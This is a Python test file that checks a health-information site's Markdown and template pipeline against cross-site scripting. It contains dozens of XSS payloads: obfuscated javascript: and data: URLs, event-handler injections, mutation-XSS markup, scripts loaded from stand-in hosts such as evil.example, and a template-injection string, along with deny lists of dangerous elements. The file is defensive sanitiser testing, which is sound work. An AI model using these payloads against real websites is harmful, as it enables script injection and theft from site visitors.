"""Hostile content never reaches a reader's browser as something that can run.

Each input goes through the real pipeline (Markdown, citations, glossary linking, sanitising),
or, for front matter and the references file, through the real pages. The output is judged by
parsing it as a browser does (html5lib), never by searching strings: no script element, no
event-handler attribute, no dangerous URL scheme (after entity decoding and stripping spaces
and control characters), no style attribute, no element that frames, embeds, posts or
redirects. The one SVG the site lets through (icon arrays, engine/iconarrays.py) is judged
element by element: an <svg> holding <path>s and nothing else, with no URL and no url() anywhere.
"""

import datetime
import json
import re
import shutil
import unicodedata

import html5lib
import pytest
import yaml

from engine import load_library
from engine.rendering import render_markdown
from engine.terms import Term

FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "base", "meta", "link", "style", "math", "noscript",
    "template", "xmp", "plaintext", "noembed", "noframes", "portal",
}  # fmt: skip
# SVG: the sanitiser lets through <svg> and <path> for the icon arrays, and nothing else. An <svg>
# is harmless only if it and everything in it are <svg> and <path> (elements the browser reads in
# the SVG namespace), with no event handler, no style, no URL attribute at all and no url() in any
# value (checked below). The elements of SVG that run script, load, link, restyle or rewrite the
# picture after the fact are named here, so a report says which one got through; any other
# element inside an <svg> is a problem too.
SVG_ELEMENTS = {"svg", "path"}
DANGEROUS_SVG_ELEMENTS = {
    "script", "foreignObject", "animate", "set", "animateTransform", "animateMotion",
    "animateColor", "mpath", "discard", "handler", "listener", "use", "image", "feImage", "a",
    "style", "iframe", "video", "audio", "canvas", "filter", "pattern", "mask", "clipPath",
    "marker", "symbol", "defs", "text", "tref", "textPath", "font-face-uri", "cursor",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "cite", "longdesc",
    "srcset", "xlink:href", "codebase", "dynsrc", "lowsrc", "ping", "manifest", "icon",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def local_name(name):
    return name.rsplit("}", 1)[-1] if isinstance(name, str) else ""


def url_problem(value):
    # Browsers ignore tabs and newlines anywhere in a URL, and spaces and control characters at
    # its ends; dropping every space and control character is stricter still.
    cleaned = "".join(c for c in value if not (c.isspace() or unicodedata.category(c) == "Cc"))
    cleaned = cleaned.lower()
    match = SCHEME.match(cleaned)
    if match and match.group(1) not in SAFE_SCHEMES:
        return f"{match.group(1)}: URL"
    return None


def problems_in(html, *, page=False):
    """What in html could run script, load from elsewhere, or change where the page goes.

    For a whole page (page=True), the site's own parts are allowed: scripts from /static/, the
    meta and link elements of the head, forms that ask this site (search, glossary filter), and
    the share panel's read-only box of after-visit text to copy.
    """
    document = html5lib.parse(html) if page else html5lib.parseFragment(html, container="div")
    head = document.find("{http://www.w3.org/1999/xhtml}head") if page else None
    in_head = set(head.iter()) if head is not None else set()
    in_share_text = {
        inner
        for element in document.iter()
        if local_name(element.tag) == "details"
        and "share__avs" in element.attrib.get("class", "").split()
        for inner in element.iter()
    }
    in_svg = {
        inner
        for element in document.iter()
        if local_name(element.tag) == "svg"
        for inner in element.iter()
        if inner is not element
    }
    problems = []
    for element in document.iter():
        tag = local_name(element.tag)
        attributes = {local_name(name): value for name, value in element.attrib.items()}
        allowed = page and _site_part(tag, attributes, element, in_head, in_share_text)
        if tag in FORBIDDEN_ELEMENTS and not allowed:
            problems.append(f"<{tag}> element")
        # Comments (no tag name) say nothing to the browser, in an <svg> or out of it.
        svg = bool(tag) and (tag == "svg" or element in in_svg)
        if svg and tag in DANGEROUS_SVG_ELEMENTS:
            problems.append(f"<{tag}> element in <svg>")
        elif svg and tag not in SVG_ELEMENTS:
            problems.append(f"<{tag}> element in <svg>, which may hold <path> only")
        for name, value in attributes.items():
            lowered = name.lower()
            if lowered.startswith("on"):
                problems.append(f"{name} attribute on <{tag}>")
            if lowered == "style":
                problems.append(f"style attribute on <{tag}>")
            if svg and (lowered in URL_ATTRIBUTES or lowered.endswith(":href")):
                problems.append(f"{name} attribute in <svg>")
            if svg and "url(" in "".join(value.split()).lower():
                problems.append(f"url() in {name} of <{tag}>")
            if lowered in URL_ATTRIBUTES:
                for candidate in value.split(",") if lowered == "srcset" else [value]:
                    problem = url_problem(candidate.strip())
                    if problem:
                        problems.append(f"{problem} in {name} of <{tag}>")
            if tag == "img" and lowered == "src" and not page and not value.startswith("/static/"):
                problems.append(f"image from elsewhere: {value}")
    return problems


def _is_json(text):
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def _site_part(tag, attributes, element, in_head, in_share_text):
    if tag == "script" and attributes.get("type") == "application/ld+json":
        # Structured data: a data block the browser never runs, if it is all JSON (a payload
        # that ended the element early would leave half of it, and a second script, behind).
        return element in in_head and _is_json(element.text or "")
    if tag == "script" and attributes.get("type") == "application/json":
        # The words the scripts show (base.html's #ui-strings): data, never run, if all JSON.
        return attributes.get("id") == "ui-strings" and _is_json(element.text or "")
    if tag == "script":
        return attributes.get("src", "").startswith("/static/") and not (element.text or "").strip()
    if tag in {"meta", "link"}:
        return element in in_head and url_problem(attributes.get("href", "")) is None
    if tag in {"form", "input", "button"}:
        action = attributes.get("action", "")
        return tag != "form" or (action.startswith("/") and not action.startswith("//"))
    if tag == "textarea":
        # The share panel's after-visit text (_partials/share.html): words to copy, which nothing
        # sends anywhere (read-only, no name, no form) and the reader cannot change. Its content
        # is text to the browser; a payload that ended it early would leave elements behind.
        return (
            element in in_share_text
            and attributes.get("id") == "avs-text"
            and "readonly" in attributes
            and not {"name", "form", "formaction"} & attributes.keys()
        )
    return False


def term(slug, name, short="A plain definition."):
    return Term(slug=slug, term=name, short=short, html="<p>Longer.</p>")


GLOSSARY = {
    "lymphocyte": term("lymphocyte", "lymphocyte"),
    "b-cell": term("b-cell", "B cell", short='B cells" onmouseover="alert(1)'),
    "car-t": term("car-t", "CAR-T"),
}

HOSTILE_MARKDOWN = {
    # Raw elements that run, frame, embed, post or redirect
    "script": "<script>alert(1)</script>",
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form": '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    "form-action": '<button formaction="javascript:alert(1)">x</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "paragraph-onclick": '<p onclick="alert(1)">Read me</p>',
    "link-onmouseover": '<a href="/" onmouseover=alert(1)>x</a>',
    "style-attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "img-outside": '<img src="https://tracker.example/pixel.png" alt="">',
    "img-srcset": '<img src="/static/img/favicon.svg" srcset="javascript:alert(1) 1x" alt="">',
    # javascript:, vbscript: and data: links in every disguise
    "md-javascript": "[x](javascript:alert(1))",
    "md-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-decimal-entity": "[x](&#106;avascript:alert(1))",
    "md-hex-entity-colon": "[x](&#x6A;avascript&colon;alert(1))",
    "md-tab-entity": "[x](java&#x09;script:alert(1))",
    "md-angle-destination": "[x](<javascript:alert(1)>)",
    "md-leading-space": "[x](  javascript:alert(1))",
    "md-nul": "[x](java\x00script:alert(1))",
    "md-control-char": "[x](\x01javascript:alert(1))",
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "md-vbscript-case": "[x](VbScRiPt:msgbox(1))",
    "md-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-data-upper": "[x](DATA:text/html,<script>alert(1)</script>)",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-javascript": "![x](javascript:alert(1))",
    "reference-definition": "[x][1]\n\n[1]: javascript:alert(1)",
    "reference-definition-title": '[x][a]\n\n[a]: JAVASCRIPT:alert(1) "Title"',
    "reference-definition-entity": "[x][b]\n\n[b]: &#x6a;avascript:alert(1)",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "html-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "html-padded-entities": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">x</a>'
    ),
    "html-leading-control": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "html-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "html-zero-width": '<a href="java\u200bscript:alert(1)">x</a>',
    # Attribute injection through titles
    "title-double-quote": '[x](/ok "title\\" onmouseover=\\"alert(1)")',
    "title-single-quote": "[x](/ok 'a\" onclick=\"alert(1)')",
    "image-title": '![x](/static/img/favicon.svg "\\" onerror=\\"alert(1)")',
    "reference-title": '[x][r]\n\n[r]: /ok "\\" onfocus=\\"alert(1)\\" autofocus \\""',
    "abbr-title": '<abbr title="&quot; onmouseover=alert(1)">x</abbr>',
    # Mutation XSS: markup that changes meaning when a browser parses it again
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-style-img": "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-textarea": (
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>">'
    ),
    "form-math-nesting": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "style-img": "<style><img src=x onerror=alert(1)></style>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "template-script": "<template><script>alert(1)</script></template>",
    "comment-break": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "select-template": "<select><template><style><img src=x onerror=alert(1)>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "markdown-in-html": '<div markdown="1">[x](javascript:alert(1))</div>',
    # The site's own Markdown extensions
    "glossary-forced-markup": "[[<img src=x onerror=alert(1)>]]",
    "glossary-forced-slug": "[[lymphocyte|javascript:alert(1)]]",
    "glossary-hostile-short": "Every B cell matters.",
    "citation-key": '[@"><script>alert(1)</script>]',
    "heading-markup": "## <img src=x onerror=alert(1)>\n\nText about CAR-T.",
    "heading-quote": '## x" onclick="alert(1)\n\nText.',
    "table-cell": "| a |\n|:-|\n| <td style=x onclick=alert(1)>b</td> |",
}


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_hostile_markdown_renders_harmless(markdown):
    html = render_markdown(markdown, glossary=GLOSSARY).html
    assert problems_in(html) == []


def test_the_table_is_large_enough():
    assert len(HOSTILE_MARKDOWN) >= 40


def test_the_judge_sees_what_it_must():
    # The judge itself must catch each kind of danger, or a clean result would mean nothing.
    assert problems_in("<script>x</script>") == ["<script> element"]
    assert problems_in('<a href="JaVa&#x09;Script:x">x</a>') == ["javascript: URL in href of <a>"]
    assert problems_in('<p onclick="x">x</p>') == ["onclick attribute on <p>"]
    assert problems_in('<p style="x">x</p>') == ["style attribute on <p>"]
    assert problems_in("<svg><p><style><img src=x onerror=y>") != []
    # The icon arrays' SVG passes; anything more in an <svg> does not.
    icons = '<svg viewBox="0 0 10 13" width="1.5em" role="img" aria-label="4 of 80"><path d="M0 0"'
    assert problems_in(icons + ' fill="currentColor"></path></svg>') == []
    assert problems_in("<svg><script>x</script></svg>") == [
        "<script> element",
        "<script> element in <svg>",
    ]
    assert problems_in("<svg><animate attributeName=href to=x></animate></svg>") == [
        "<animate> element in <svg>"
    ]
    assert problems_in("<svg><foreignObject><p>x</p></foreignObject></svg>") == [
        "<foreignObject> element in <svg>",
        "<p> element in <svg>, which may hold <path> only",
    ]
    assert problems_in('<svg><a xlink:href="https://x.example/"><path/></a></svg>') == [
        "<a> element in <svg>",
        "href attribute in <svg>",
    ]
    assert problems_in('<svg><use href="#a"></use></svg>') == [
        "<use> element in <svg>",
        "href attribute in <svg>",
    ]
    assert problems_in("<svg><title>x</title></svg>") == [
        "<title> element in <svg>, which may hold <path> only"
    ]
    assert problems_in('<svg><path fill="url(#a)"></path></svg>') == ["url() in fill of <path>"]
    assert problems_in('<svg onload="x"><path style="x"></path></svg>') == [
        "onload attribute on <svg>",
        "style attribute on <path>",
    ]


def test_the_judge_lets_the_site_s_own_parts_through_and_no_more():
    # The icon arrays' pictures, as the pipeline draws them.
    array = "::: icons 4 of 80\n4 of 80 people had a fever [@a].\n"
    drawn = render_markdown(array, references={"a": object()}).html
    assert "<svg" in drawn and "<path" in drawn
    assert problems_in(drawn) == []
    # On a page, the share panel's read-only box of after-visit text; no other <textarea>.
    box = '<textarea id="avs-text" readonly>TEXT</textarea>'
    panel = f'<details class="share__avs">{box}</details>'
    assert problems_in(panel.replace("TEXT", "Words to copy."), page=True) == []
    assert problems_in(box, page=True) == ["<textarea> element"]
    assert problems_in(panel, page=False) == ["<textarea> element"]
    assert problems_in(panel.replace(" readonly", ""), page=True) == ["<textarea> element"]
    assert problems_in(panel.replace(" readonly", ' name="x" readonly'), page=True) == [
        "<textarea> element"
    ]
    ended = panel.replace("TEXT", "</textarea><img src=x onerror=y>")
    assert problems_in(ended, page=True) == ["onerror attribute on <img>"]


def test_hostile_text_stays_as_text():
    html = render_markdown("Write `<script>alert(1)</script>` to test.").html
    assert problems_in(html) == []
    assert "&lt;script&gt;" in html


# Front matter and the references file reach the page through templates, so they are judged on
# the real page. Each payload must appear as text the reader can see, and do nothing.

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
]


def front_matter(meta, body):
    return (
        "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n" + body + "\n"
    )


def hostile_files(payload):
    day = datetime.date(2026, 1, 1)
    article = {
        "title": payload,
        "summary": payload,
        "key_points": [payload, "Two"],
        "published": day,
        "last_reviewed": day,
        "next_review": day.replace(year=2027),
        "steps": [{"name": payload, "text": payload}],
    }
    section = {
        "title": payload,
        "slug": "first",
        "order": 1,
        "in_short": payload,
        "last_reviewed": day,
        "diagram": "steps",
        "questions": [payload],
    }
    term = {"term": "lymphocyte", "short": payload, "aliases": [payload], "pronunciation": payload}
    reference = {"key": "ref", "title": payload, "authors": payload, "journal": payload}
    reference.update({"note": payload, "doi": payload})
    return {
        "articles/demo/article.md": front_matter(article, "Intro."),
        "articles/demo/01-first.md": front_matter(section, "Mentions a lymphocyte, cites [@ref]."),
        "glossary/lymphocyte.md": front_matter(term, payload),
        "references.yaml": yaml.safe_dump([reference], allow_unicode=True),
    }


@pytest.fixture
def hostile_site(settings, tmp_path):
    def build(payload):
        root = tmp_path / "content"
        shutil.rmtree(root, ignore_errors=True)
        for name, text in hostile_files(payload).items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        settings.CONTENT_DIR = root
        settings.CONTENT_RELOAD_SECONDS = 0
        return root

    return build


PAGES = [
    "/",
    "/articles/",
    "/articles/demo/",
    "/articles/demo/all/",
    "/articles/demo/first/",
    "/glossary/",
    "/glossary/lymphocyte/",
]


def visible_text(html):
    document = html5lib.parse(html)
    return " ".join("".join(document.itertext()).split())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_front_matter_is_shown_as_text(client, hostile_site, payload):
    hostile_site(payload)
    for url in PAGES:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert problems_in(html, page=True) == [], url
        assert "SECRET_KEY" not in html or "{{ settings.SECRET_KEY }}" in visible_text(html)
    section_text = visible_text(client.get("/articles/demo/first/").content.decode())
    assert payload in section_text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
    ],
)
def test_reference_with_a_hostile_url_is_refused(client, hostile_site, url):
    root = hostile_site("A study")
    reference = {"key": "ref", "title": "A study", "url": url}
    (root / "references.yaml").write_text(yaml.safe_dump([reference]))
    html = client.get("/articles/demo/first/").content.decode()
    assert problems_in(html, page=True) == []
    messages = [str(problem) for problem in load_library(root).problems]
    assert 'references.yaml:3: error: the url of "ref" must start with https://' in messages
